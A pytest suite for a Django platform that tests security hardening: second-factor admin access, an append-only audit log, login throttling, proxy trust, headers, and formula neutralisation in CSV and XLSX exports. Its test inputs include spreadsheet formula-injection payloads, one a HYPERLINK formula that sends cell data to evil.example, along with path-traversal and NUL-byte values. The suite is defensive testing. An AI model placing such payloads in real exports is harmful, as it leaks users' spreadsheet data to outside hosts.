"""Issue 13: one door in (the admin behind the platform's sign-in and second factor), an append-only audit
log with every membership change, a throttle that holds, no formula in any export, no 500 for a bad id."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pyotp
import pytest
from django.core import mail
from django.core.cache import cache

from paritas.web.accounts import throttle, totp
from paritas.web.accounts.models import AppendOnly, AuditEvent, ThrottleEvent, User
from paritas.web.organisations.models import Membership, Organisation
from tests.web.conftest import PASSWORD


@pytest.fixture
def staff(db):
    return User.objects.create_user("staff@paritas.test", PASSWORD, is_staff=True, is_superuser=True)


def _with_totp(user: User) -> str:
    secret = totp.new_secret()
    user.totp_secret = totp.store(secret)
    user.save()
    return secret


# --- 1. One door in ---------------------------------------------------------------------------------------

def test_the_admin_login_leads_to_the_platforms_sign_in(client, staff):
    response = client.get("/admin/login/?next=/admin/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/?next=/admin/")
    # A password alone posted to the admin's login signs nobody in.
    response = client.post("/admin/login/?next=/admin/", {"username": staff.email, "password": PASSWORD})
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    assert client.get("/admin/").status_code == 302


def test_staff_with_totp_reach_the_admin_only_after_the_code(client, staff):
    secret = _with_totp(staff)
    response = client.post("/accounts/login/?next=/admin/", {"email": staff.email, "password": PASSWORD,
                                                             "next": "/admin/"})
    assert "/accounts/login/code/" in response["Location"]
    assert client.get("/admin/").status_code == 302  # the password alone does not open it
    response = client.post("/accounts/login/code/", {"code": pyotp.TOTP(secret).now(), "next": "/admin/"})
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert client.get("/admin/").status_code == 200


def test_staff_without_a_second_factor_set_one_up_before_the_session_starts(client, staff):
    response = client.post("/accounts/login/", {"email": staff.email, "password": PASSWORD})
    assert "/accounts/login/setup/" in response["Location"]
    assert client.get("/admin/").status_code == 302 and client.get("/accounts/settings/").status_code == 302
    secret = client.session["paritas_totp_enrol"]
    assert client.post("/accounts/login/setup/", {"code": "000000"}).status_code == 401
    response = client.post("/accounts/login/setup/", {"code": pyotp.TOTP(secret).now()})
    assert response.status_code == 302
    staff.refresh_from_db()
    assert staff.has_totp and totp.secret_of(staff) == secret
    assert client.get("/admin/").status_code == 200


def test_a_session_without_the_second_factor_does_not_open_the_admin(client, staff):
    client.force_login(staff)  # e.g. a session from before staff had to use a second factor
    assert client.get("/admin/").status_code == 302
    assert client.get("/admin/accounts/auditevent/").status_code == 302


def test_staff_cannot_turn_the_second_factor_off(client, staff):
    _with_totp(staff)
    client.force_login(staff)
    client.post("/accounts/settings/", {"action": "totp_off", "password": PASSWORD})
    staff.refresh_from_db()
    assert staff.has_totp


def _admin_client(client, staff):
    secret = _with_totp(staff)
    client.post("/accounts/login/", {"email": staff.email, "password": PASSWORD})
    client.post("/accounts/login/code/", {"code": pyotp.TOTP(secret).now()})
    assert client.get("/admin/").status_code == 200
    return client


def test_the_audit_log_is_append_only_everywhere(client, staff, orgs):
    event = AuditEvent.objects.filter(organisation=orgs["alpha"]["org"]).first()
    with pytest.raises(AppendOnly):
        event.detail = "changed"
        event.save()
    with pytest.raises(AppendOnly):
        event.delete()
    with pytest.raises(AppendOnly):
        AuditEvent.objects.all().delete()
    with pytest.raises(AppendOnly):
        AuditEvent.objects.filter(pk=event.pk).update(detail="changed")
    with pytest.raises(Exception, match="protected"):
        orgs["alpha"]["org"].delete()  # an organisation with an audit log keeps it
    admin = _admin_client(client, staff)
    count = AuditEvent.objects.count()
    assert admin.get(f"/admin/accounts/auditevent/{event.pk}/delete/").status_code == 403
    assert admin.post(f"/admin/accounts/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert admin.post("/admin/accounts/auditevent/", {"action": "delete_selected",
                                                      "_selected_action": [event.pk], "post": "yes"}).status_code in (
        200, 302, 403)
    assert admin.get("/admin/accounts/auditevent/add/").status_code == 403
    assert AuditEvent.objects.count() == count
    assert AuditEvent.objects.get(pk=event.pk).detail == event.__class__.objects.get(pk=event.pk).detail


def test_every_membership_change_is_audited_however_it_is_made(client, staff, orgs):
    org, viewer = orgs["alpha"]["org"], orgs["beta"]["viewer"]
    events = AuditEvent.objects.filter(organisation=org, action=AuditEvent.Action.MEMBERSHIP)
    before = events.count()
    # In the admin (the probe's path: a staff member makes themselves owner through the inline).
    admin = _admin_client(client, staff)
    membership = Membership.objects.create(user=viewer, organisation=org, role="viewer")
    assert events.count() == before + 1
    data = {"name": org.name, "slug": org.slug, "type": org.type, "sector": org.sector, "language": "de",
            "min_group_size": 5, "memberships-TOTAL_FORMS": 1, "memberships-INITIAL_FORMS": 0,
            "memberships-0-user": staff.pk, "memberships-0-role": "owner", "memberships-0-organisation": org.pk}
    response = admin.post(f"/admin/organisations/organisation/{org.pk}/change/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    last = events.first()
    assert last.detail == f"{staff.email}: owner" and last.user == staff and last.via == "admin"
    # In code, with no request at all: a role change and a removal.
    membership.role = "analyst"
    membership.save()
    assert events.first().detail == f"{viewer.email}: viewer → analyst" and events.first().via == "system"
    membership.delete()
    assert events.first().detail == f"{viewer.email}: removed"
    # On the members page.
    client.force_login(orgs["alpha"]["owner"])
    client.post("/o/alpha/members/", {"email": viewer.email, "role": "viewer"})
    assert events.first().detail == f"{viewer.email}: viewer" and events.first().user == orgs["alpha"]["owner"]


# --- 2. A throttle that holds -------------------------------------------------------------------------------

def test_the_lock_survives_a_flood_of_register_requests(client, orgs):
    for _ in range(5):
        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"})
    for page in range(300):  # fills the page cache the register uses: the failures are not in it
        client.get(f"/register/?page={page}&year={2000 + page % 30}")
    cache.clear()
    response = client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD})
    assert response.status_code == 429
    assert ThrottleEvent.objects.filter(scope=throttle.PAIR).count() == 5


def test_one_persons_failures_do_not_lock_out_others_behind_the_same_address(client, orgs):
    for _ in range(5):
        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"})
    assert client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD}).status_code == 429
    # Another account from the same address signs in.
    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD}).status_code == 302


def test_guessing_one_account_from_many_addresses_locks_that_account(client, orgs, settings):
    for i in range(settings.LOGIN_ACCOUNT_FAILURE_LIMIT):
        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"},
                    REMOTE_ADDR=f"198.51.100.{i}")
    response = client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD},
                           REMOTE_ADDR="203.0.113.9")
    assert response.status_code == 429


def test_spraying_from_one_address_locks_that_address(client, orgs, settings):
    settings.LOGIN_CLIENT_FAILURE_LIMIT = 8
    for i in range(8):
        client.post("/accounts/login/", {"email": f"nobody{i}@alpha.test", "password": "wrong"},
                    REMOTE_ADDR="198.51.100.7")
    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD},
                       REMOTE_ADDR="198.51.100.7").status_code == 429
    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD},
                       REMOTE_ADDR="198.51.100.8").status_code == 302


def test_the_client_address_comes_from_a_trusted_proxy_only(rf, settings):
    settings.TRUSTED_PROXIES = "10.0.0.0/8"
    forged = rf.get("/", REMOTE_ADDR="203.0.113.5", HTTP_X_FORWARDED_FOR="192.0.2.1")
    assert throttle.client_of(forged) == "203.0.113.5"  # not a proxy of ours: its header is ignored
    proxied = rf.get("/", REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.4, 10.9.9.9")
    assert throttle.client_of(proxied) == "198.51.100.4"  # the nearest hop that is not our proxy
    assert throttle.client_of(rf.get("/", REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="junk")) == "10.1.2.3"
    settings.TRUSTED_PROXIES = ""
    assert throttle.client_of(proxied) == "10.1.2.3"


def test_failures_behind_a_proxy_count_per_real_client(client, orgs, settings):
    settings.TRUSTED_PROXIES = "10.0.0.1"
    for _ in range(5):
        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"},
                    REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="192.0.2.10")
    assert client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD}, REMOTE_ADDR="10.0.0.1",
                       HTTP_X_FORWARDED_FOR="192.0.2.11").status_code == 302


def test_password_reset_requests_are_throttled_per_account_and_per_address(client, orgs, settings):
    for _ in range(5):
        assert client.post("/accounts/password-reset/", {"email": "viewer@alpha.test"}).status_code == 302
    assert len(mail.outbox) == settings.PASSWORD_RESET_ACCOUNT_LIMIT  # the page says the same; no more mail
    for i in range(settings.PASSWORD_RESET_CLIENT_LIMIT - 5):
        client.post("/accounts/password-reset/", {"email": f"x{i}@alpha.test"})
    response = client.post("/accounts/password-reset/", {"email": "owner@alpha.test"})
    assert response.status_code == 429
    assert client.post("/accounts/password-reset/", {"email": "owner@alpha.test"},
                       REMOTE_ADDR="192.0.2.99").status_code == 302


# --- 3. No formula in any export ------------------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]


def test_csv_cells_that_look_like_formulas_are_neutralised():
    from paritas.reports.cells import csv_cell, csv_text

    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell("Stadt Herne") == "Stadt Herne" and csv_cell(-0.05) == -0.05 and csv_cell(float("nan")) == ""
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[t] for t in HOSTILE]))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def test_the_register_csv_carries_no_formula(client, db):
    from datetime import date

    from paritas.web.awards.models import Award, Programme

    programme = Programme.objects.create(name="=1+1", slug="p")
    for i, name in enumerate(HOSTILE):
        org = Organisation.objects.create(slug=f"o{i}", name=name, type="company")
        Award.objects.create(programme=programme, organisation=org, awarded_on=date.today(),
                             valid_from=date.today(), valid_until=date(date.today().year + 2, 12, 31), number=1)
    text = client.get("/register.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and c != "-")]
    assert "'=1+1" in cells


def test_xlsx_reports_write_every_text_as_text(tmp_path):
    from paritas.reports.xlsx import Sheet, write_workbook

    path = tmp_path / "report.xlsx"
    write_workbook(path, [Sheet("=evil", HOSTILE, [HOSTILE, [float("nan"), float("inf"), -1.5, None, 3, "x"]],
                                title="=TITLE()", notes=["=NOTE()", "@x"])])
    workbook = openpyxl.load_workbook(path)
    values = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert values and all(c.data_type in ("s", "n") for c in values)
    texts = {c.value.replace("_x000D_", "\r") for c in values if c.data_type == "s"}  # CR as OOXML escapes it
    assert texts >= set(HOSTILE) | {"=TITLE()", "=NOTE()"}
    assert [c.value for c in values if c.data_type == "n"] == [-1.5, 3]


def test_the_structure_workbook_of_a_hostile_export_has_no_formula(tmp_path):
    from datetime import date

    from paritas.analytics import io as hrio
    from paritas.analytics.privacy import SuppressionRule
    from paritas.analytics.structure import structure
    from paritas.reports import structure as structure_report
    from paritas.reports.i18n import Translator
    from paritas.reports.xlsx import write_workbook

    lines = ["Personalnummer;Geschlecht;Entgeltgruppe;Organisationseinheit"]
    lines += [f"{i};{'w' if i % 2 else 'm'};E 9;=HYPERLINK(\"http://x\")" for i in range(40)]
    source = tmp_path / "export.csv"
    source.write_text("\n".join(lines), encoding="utf-8")
    workforce = hrio.read(source, hrio.ReadOptions(reference_date=date(2024, 12, 31)))
    out = tmp_path / "struktur.xlsx"
    write_workbook(out, structure_report.sheets(structure(workforce, SuppressionRule(5)), Translator("de")))
    workbook = openpyxl.load_workbook(out)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == "=HYPERLINK(\"http://x\")" for c in cells)
    assert all(c.data_type != "f" for c in cells)


# --- 9. Ids that are not numbers ------------------------------------------------------------------------------

def test_ids_that_are_not_numbers_give_400_or_404(client, orgs):
    client.force_login(orgs["alpha"]["owner"])
    assert client.post("/o/alpha/members/", {"remove": "abc"}).status_code == 404
    assert client.post("/o/alpha/members/", {"remove": "1e3"}).status_code == 404
    assert client.post("/o/alpha/members/", {"remove": "²"}).status_code == 404  # isdigit() says yes to it
    assert client.post("/o/alpha/members/", {"remove": "9" * 30}).status_code == 404  # beyond a bigint
    assert client.post("/accounts/settings/", {"action": "revoke", "token": "x"}).status_code == 400
    assert client.post("/accounts/settings/", {"action": "revoke", "token": "²"}).status_code == 400
    for query in ("page=²", "region=99999999999999999999999", "year=²", "year=99999", "year=0", "size=²-³",
                  "size=1-99999999999999999999"):
        assert client.get(f"/register/?{query}").status_code == 200, query
        assert client.get(f"/register.csv?{query}").status_code == 200, query


def test_parse_id():
    from paritas.web.ids import MAX_ID, parse_id

    assert [parse_id(v) for v in ("12", " 7 ", "0", str(MAX_ID))] == [12, 7, 0, MAX_ID]
    assert [parse_id(v) for v in ("", None, "-1", "1.0", "1e3", "²", "٣", str(MAX_ID + 1), "9" * 5000)] == [None] * 9


# --- 6. What the public sees ----------------------------------------------------------------------------------

def test_an_award_is_public_only_once_its_statement_is_approved(client, orgs):
    from datetime import timedelta

    from django.utils import timezone

    from paritas.web.awards import outcome, services
    from paritas.web.awards.models import Award, Round
    from tests.web.test_awards_views import _complete

    programme = services.install_template("equal_opportunity", "praedikat")
    now = timezone.now()
    round_ = Round.objects.create(programme=programme, title=str(now.year), opens_at=now - timedelta(days=2),
                                  closes_at=now + timedelta(days=1))
    orgs["alpha"]["org"].size = 400
    orgs["alpha"]["org"].save()
    application = services.start_application(round_, orgs["alpha"]["org"])
    _complete(application, orgs["alpha"]["owner"])
    services.submit(application)
    chair = User.objects.create_user("chair@jury.test", PASSWORD)
    programme.administrators.add(chair)
    later = now + timedelta(days=2)
    decision = services.decide(application, "award", "Vorbildlich.", chair, now=later)
    award = Award.objects.get(application=application)

    def public() -> tuple[bool, bool, bool, int]:
        page = client.get("/register/").content.decode()
        listed = "Alpha" in page
        return (listed, "Alpha" in client.get("/register.csv").content.decode("utf-8-sig"),
                "Alpha" in client.get("/register.json").content.decode(),
                client.get(f"/register/badge/{award.pk}.svg").status_code)

    assert public() == (False, False, False, 404)  # decided, but the decision may still change
    services.decide(application, "defer", "Erst 2027.", chair, now=later)
    services.decide(application, "award", "Doch.", chair, now=later)
    award = Award.objects.get(application=application)
    assert public() == (False, False, False, 404)
    outcome.approve_statement(decision, chair, "Die Jury würdigt …")
    assert public() == (True, True, True, 200)


def test_the_page_cache_never_serves_one_persons_page_to_another(orgs, db):
    from django.test import Client

    from paritas.web.awards.models import Programme

    snapshot = orgs["alpha"]["snapshot"]
    url = f"/o/alpha/s/{snapshot.pk}/"
    analyst = orgs["alpha"]["analyst"]
    second = User.objects.create_user("second-analyst@alpha.test", PASSWORD, first_name="Zweite")
    Membership.objects.create(user=second, organisation=orgs["alpha"]["org"], role="analyst")
    programme = Programme.objects.create(name="Familienfreundlich", slug="ff")
    programme.administrators.add(analyst)  # the first analyst also runs an award programme
    first_client, second_client = Client(), Client()
    first_client.force_login(analyst)
    second_client.force_login(second)
    first = first_client.get(url).content.decode()
    assert "/programmes/" in first
    page = second_client.get(url).content.decode()
    assert "/programmes/" not in page  # not the first analyst's navigation
    token = 'name="csrfmiddlewaretoken" value="'
    assert first.split(token)[1][:20] != page.split(token)[1][:20]  # each page carries its reader's token


# --- 7. Data protection in depth -------------------------------------------------------------------------------

def _pending(orgs, small_csv, when=None):
    from datetime import date

    from paritas.web.workforce import services
    from paritas.web.workforce.models import PendingUpload

    check = services.check_upload(orgs["alpha"]["org"], orgs["alpha"]["analyst"], "personal.csv",
                                  small_csv.read_bytes(), date(2023, 12, 31))
    assert check.pending is not None
    if when is not None:
        PendingUpload.objects.filter(pk=check.pending.pk).update(created_at=when)
    return check.pending


def test_pending_uploads_older_than_a_day_are_purged_and_not_shown(client, orgs, small_csv):
    from datetime import timedelta

    from django.core.management import call_command
    from django.utils import timezone

    from paritas.web.workforce.models import PendingUpload

    old = _pending(orgs, small_csv, timezone.now() - timedelta(hours=25))
    new = _pending(orgs, small_csv)
    client.force_login(orgs["alpha"]["analyst"])
    assert client.get(f"/o/alpha/upload/{old.pk}/").status_code == 404  # expired, even before the purge
    assert client.get(f"/o/alpha/upload/{new.pk}/").status_code == 200
    out = io.StringIO()
    call_command("purge_pending", stdout=out)
    assert "1" in out.getvalue()
    assert list(PendingUpload.objects.values_list("pk", flat=True)) == [new.pk]


@pytest.mark.django_db(transaction=True)
def test_paritas_serve_purges_at_start_and_starts_the_hourly_housekeeping(monkeypatch, orgs, small_csv):
    import argparse
    from datetime import timedelta

    from django.utils import timezone

    from paritas.web import serve
    from paritas.web.workforce.models import PendingUpload

    _pending(orgs, small_csv, timezone.now() - timedelta(days=2))
    started = []
    monkeypatch.setattr(serve, "_exec", lambda command: None)
    monkeypatch.setattr(serve, "_start_housekeeping", lambda: started.append(True))
    monkeypatch.setattr(serve, "_start_job_worker", lambda: None)
    serve.cmd_serve(argparse.Namespace(demo=False, host="127.0.0.1", port=8124, workers=2, job_workers=1))
    assert not PendingUpload.objects.exists() and started == [True]


def test_the_housekeeping_process_ends_with_its_parent(tmp_path):
    import os
    import subprocess
    import sys
    import time

    env = {**os.environ, "PARITAS_DATA_DIR": str(tmp_path), "DJANGO_SETTINGS_MODULE": "paritas.web.settings"}
    env.pop("DATABASE_URL", None)
    subprocess.run([sys.executable, "-m", "django", "migrate", "-v0"], env=env, check=True, timeout=120)
    import sqlite3

    with sqlite3.connect(tmp_path / "paritas.sqlite3") as db:  # a pending upload of two days ago
        db.execute("INSERT INTO workforce_pendingupload (organisation_id, user_id, file_name, content, spooled, "
                   "reference_date, sealed_preview, sealed_figures, figures_basis, created_at) VALUES (1, 1, 'x.csv', "
                   f"x'', '{'a' * 32}', '2024-12-31', x'', x'', '', datetime('now', '-2 days'))")
    # its rows in the spool, a file no row names (of a rolled-back upload) and one written a moment ago
    spooled = tmp_path / "spool"
    spooled.mkdir()
    two_days_ago = time.time() - 2 * 86400
    for key in ("a" * 32, "b" * 32):
        (spooled / f"{key}.sealed").write_bytes(b"\x00PG1sealed")
        os.utime(spooled / f"{key}.sealed", (two_days_ago, two_days_ago))
    (spooled / f"{'c' * 32}.sealed").write_bytes(b"\x00PG1sealed")
    # Its parent here is a shell that ends after a second: the process purges, then ends by itself.
    out = subprocess.run(["sh", "-c", f"{sys.executable} -m paritas.web.housekeeping --parent $$ --interval 1 & "
                                      "echo $!; sleep 1"], env=env, timeout=120, capture_output=True, text=True)
    pid = int(out.stdout.split()[0])
    for _ in range(100):
        status = Path(f"/proc/{pid}/status")
        if not status.exists() or "zombie" in status.read_text():
            break
        time.sleep(0.1)
    else:
        os.kill(pid, 9)
        raise AssertionError("the housekeeping process outlived its parent")
    with sqlite3.connect(tmp_path / "paritas.sqlite3") as db:
        assert db.execute("SELECT count(*) FROM workforce_pendingupload").fetchone() == (0,)
    # the purged upload's rows and the old orphan are gone; the fresh file may still get its row
    assert sorted(p.name for p in spooled.iterdir()) == [f"{'c' * 32}.sealed"]


def test_the_preview_of_a_pending_upload_is_encrypted(orgs, small_csv):
    from django.db import connection

    from paritas.web.workforce.models import PendingUpload

    pending = _pending(orgs, small_csv)
    assert pending.preview["rows"] == 400 and pending.preview["columns"]
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM workforce_pendingupload")
        stored = b"".join(bytes(v) if isinstance(v, bytes | memoryview) else str(v).encode() for v in cursor.fetchone())
    assert b"Geschlecht" not in stored and b"rows" not in stored and b"personal.csv" in stored
    assert PendingUpload.objects.get(pk=pending.pk).preview == pending.preview


def test_the_database_and_the_key_files_are_created_for_the_owner_only(tmp_path):
    import os
    import stat
    import subprocess
    import sys

    data = tmp_path / "fresh"
    env = {**os.environ, "PARITAS_DATA_DIR": str(data), "DJANGO_SETTINGS_MODULE": "paritas.web.settings"}
    for name in ("DATABASE_URL", "PARITAS_SECRET_KEY", "PARITAS_ENCRYPTION_KEY"):
        env.pop(name, None)
    subprocess.run([sys.executable, "-m", "django", "migrate", "-v0"], env=env, check=True, timeout=120,
                   cwd=tmp_path)
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    for name in ("secret_key", "encryption_key", "paritas.sqlite3"):
        assert stat.S_IMODE((data / name).stat().st_mode) == 0o600, name
    for extra in data.glob("paritas.sqlite3-*"):  # WAL and shared memory, while they exist
        assert stat.S_IMODE(extra.stat().st_mode) & 0o077 == 0, extra


def test_views_are_audited_at_once_in_the_request(client, orgs):
    from paritas.web.accounts import audit

    snapshot = orgs["alpha"]["snapshot"]
    client.force_login(orgs["alpha"]["viewer"])
    assert client.get(f"/o/alpha/s/{snapshot.pk}/").status_code == 200
    assert AuditEvent.objects.filter(action="viewed", snapshot_id=snapshot.pk, user=orgs["alpha"]["viewer"]).exists()
    assert not hasattr(audit, "flush")  # no queue in the worker that a killed process could lose


def test_owners_read_the_kept_rows_and_each_read_is_audited(client, orgs, small_csv):
    from datetime import date

    from paritas.analytics import io as hrio
    from paritas.web.workforce import services

    org, owner = orgs["alpha"]["org"], orgs["alpha"]["owner"]
    plain = orgs["alpha"]["snapshot"]
    org.keep_raw_rows = True
    org.save()
    snapshot = services.create_snapshot(org, hrio.read(small_csv, hrio.ReadOptions(reference_date=date(2023, 12, 31))),
                                        owner, "p.csv")
    url = f"/o/alpha/s/{snapshot.pk}/rows.csv"
    client.force_login(orgs["alpha"]["analyst"])
    assert client.post(url).status_code == 403
    assert "rows.csv" not in client.get(f"/o/alpha/s/{snapshot.pk}/").content.decode()
    client.force_login(owner)
    assert "rows.csv" in client.get(f"/o/alpha/s/{snapshot.pk}/").content.decode()
    assert client.get(url).status_code == 405  # a download of personal data is a deliberate POST
    response = client.post(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 401
    assert AuditEvent.objects.filter(action="raw_accessed", snapshot_id=snapshot.pk, user=owner).count() == 1
    assert client.post(f"/o/alpha/s/{plain.pk}/rows.csv").status_code == 404
    client.force_login(orgs["beta"]["owner"])
    assert client.post(url).status_code in (403, 404)


def test_security_headers_and_no_inline_script_on_any_page(client, orgs):
    import re

    client.force_login(orgs["alpha"]["owner"])
    snapshot = orgs["alpha"]["snapshot"]
    for url in ("/accounts/login/", "/", "/o/alpha/", f"/o/alpha/s/{snapshot.pk}/", "/register/", "/accounts/settings/",
                "/o/alpha/members/", "/o/alpha/upload/"):
        response = client.get(url, follow=True)
        policy = response.headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "default-src 'self'" in policy
        assert "camera=()" in response.headers["Permissions-Policy"]
        assert response.headers["Referrer-Policy"] == "same-origin"
        html = response.content.decode()
        inline = [s for s in re.findall(r"<script([^>]*)>", html) if "src=" not in s and "application/json" not in s]
        assert not inline, url
        assert not re.search(r"\son[a-z]+=\"", html), url  # no inline event handlers either


def test_https_behind_a_trusted_proxy_only(client, settings, db):
    settings.SECURE_SSL_REDIRECT = True
    settings.TRUSTED_PROXIES = "10.0.0.1"
    assert client.get("/accounts/login/", REMOTE_ADDR="10.0.0.1",
                      HTTP_X_FORWARDED_PROTO="https").status_code == 200  # no redirect loop behind the proxy
    response = client.get("/accounts/login/", REMOTE_ADDR="203.0.113.1", HTTP_X_FORWARDED_PROTO="https")
    assert response.status_code == 301 and response["Location"].startswith("https://")  # a client cannot claim it
    assert client.get("/accounts/login/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_PROTO="http").status_code == 301


def test_a_nul_character_in_an_upload_is_a_row_level_error_not_a_database_error(client, orgs):
    """PostgreSQL refuses NUL in text and JSON; the reader stops it first, on both databases."""
    from tests.web.test_views import _file

    client.force_login(orgs["alpha"]["analyst"])
    rows = "".join(f"{i};{'w' if i % 2 else 'm'};39;{40000 + i};Amt{chr(0) if i == 3 else ''} A\n"
                   for i in range(1, 30))
    content = ("Personalnummer;Geschlecht;Wochenstunden;Grundentgelt;Organisationseinheit\n" + rows).encode()
    response = client.post("/o/alpha/upload/", {"file": _file("nul.csv", content), "reference_date": "2023-12-31"},
                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 422
    assert "NUL character" in response.content.decode()


def test_the_api_checks_membership_and_role_before_the_shape_of_a_request(client, orgs):
    from paritas.web.accounts.models import ApiToken

    def post(user, slug="alpha"):
        _t, key = ApiToken.issue(user, "t")
        return client.post(f"/api/organisations/{slug}/snapshots", {}, HTTP_AUTHORIZATION=f"Bearer {key}")

    assert post(orgs["beta"]["owner"]).status_code == 404  # a stranger learns nothing, not even the fields
    assert post(orgs["alpha"]["viewer"]).status_code == 403
    response = post(orgs["alpha"]["analyst"])
    assert response.status_code == 422
    assert {(p["code"], p["column"]) for p in response.json()["problems"]} == {("missing_field", "file"),
                                                                              ("missing_field", "reference_date")}
    _t, key = ApiToken.issue(orgs["alpha"]["viewer"], "t")
    assert client.get("/api/organisations/alpha/snapshots/abc", HTTP_AUTHORIZATION=f"Bearer {key}").status_code == 404


def test_the_housekeeping_runs_every_command_even_where_one_fails(orgs, small_csv, monkeypatch, capsys):
    """One child interpreter runs the hourly commands one after another: a command that fails is reported
    and the others still run (here the purge of an expired pending upload after an unknown command)."""
    from datetime import timedelta

    from django.utils import timezone

    from paritas.web import housekeeping
    from paritas.web.workforce.models import PendingUpload

    pending = _pending(orgs, small_csv)
    PendingUpload.objects.filter(pk=pending.pk).update(created_at=timezone.now() - timedelta(days=2))
    monkeypatch.setattr(housekeeping, "COMMANDS", ("no_such_command", "purge_pending"))
    assert housekeeping.run_commands() == 1
    assert not PendingUpload.objects.filter(pk=pending.pk).exists()
    assert "no_such_command" in capsys.readouterr().err
    monkeypatch.setattr(housekeeping, "COMMANDS", ("purge_pending",))
    assert housekeeping.run_commands() == 0


def test_a_nul_in_the_query_is_refused_on_every_database_and_the_registers_filters_take_only_what_exists(client, db):
    """PostgreSQL cannot compare a text with a NUL character (a 500 on `/register/?sector=%00`, found by the
    awards garbage test on PostgreSQL): such a query is refused (400) before a view reads it; a sector or
    programme that is none shows no award, on SQLite and PostgreSQL alike."""
    for url in ("/register/?sector=%00", "/register/?page=1&programme=a%00b", "/library/?q=%00",
                "/accounts/login/?next=%00", "/register/?%00=1"):
        answer = client.get(url, HTTP_ACCEPT_LANGUAGE="de")
        assert answer.status_code == 400, url
    for query in ("sector=nope", "programme=../../etc", "programme=" + "x" * 5000, "size=abc-", "sector="):
        answer = client.get("/register/?" + query)
        assert answer.status_code == 200, query
    assert client.get("/register/?q=%2500").status_code == 200  # a percent sign and two zeros are text
